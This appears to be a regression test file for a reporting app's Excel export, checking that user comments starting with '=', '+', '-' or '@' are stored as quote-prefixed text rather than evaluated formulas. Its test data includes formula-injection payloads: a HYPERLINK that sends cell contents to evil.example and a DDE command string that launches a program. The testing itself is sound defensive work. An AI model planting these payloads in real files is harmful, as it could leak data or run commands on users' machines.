"""Finding 6: a comment starting with "=" became a live formula in the exported workbook.

openpyxl writes a string that starts with "=" as a formula; Excel also evaluates "+",
"-" and "@" once the cell is edited. Every text goes into the workbook as a string,
and a text that looks like a formula gets Excel's quote prefix.
"""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook, load_workbook

from styra.followup.models import Assessment
from styra.formats.xlsx import write_text

# RS-DIG's assignments, each printed with its comment in the report's tables.
COMMENTS = {
    "U02": '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "U04": "+1+cmd|' /C calc'!A0",
    "U05": "-2+3",
    "U27": "@SUM(1,2)",
}


def test_comments_that_look_like_formulas_are_text_in_the_exported_workbook(demo, browser):
    reporter = browser("rapportor")
    for code, comment in COMMENTS.items():
        assessment = Assessment.objects.filter(round=demo.round, item__code=code).first()
        response = reporter.post(
            f"/uppfoljning/{demo.round.code}/poster/{code}/",
            {
                "version": assessment.version if assessment else 0,
                "status_code": "",
                "completed": "",
                "comment": comment,
            },
        )
        assert response.status_code == 200, code

    controller = browser("controller")
    for unit in ("RS-DIG", "RS"):
        response = controller.get(f"/rapporter/{demo.round.code}/{unit}/ladda-ned/xlsx/")
        assert response.status_code == 200
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in archive.read(name).decode(), (unit, name)
        workbook = load_workbook(io.BytesIO(response.content))  # formulas as written
        found = {}
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value in COMMENTS.values():
                        found[cell.value] = cell
        assert set(found) == set(COMMENTS.values()), unit
        for text, cell in found.items():
            assert cell.data_type == "s", text
            assert cell.quotePrefix, text


def test_write_text_keeps_every_text_as_written():
    workbook = Workbook()
    sheet = workbook.active
    texts = ["=1+1", " =1", "\t=1", "+46 70", "-5", "@A1", "＝1", "Vanlig text", "5,1 %", "−3"]
    for row, text in enumerate(texts, start=1):
        write_text(sheet.cell(row=row, column=1), text)
    buffer = io.BytesIO()
    workbook.save(buffer)
    reread = load_workbook(io.BytesIO(buffer.getvalue())).active
    for row, text in enumerate(texts, start=1):
        cell = reread.cell(row=row, column=1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert bool(cell.quotePrefix) == (text not in ("Vanlig text", "5,1 %", "−3"))
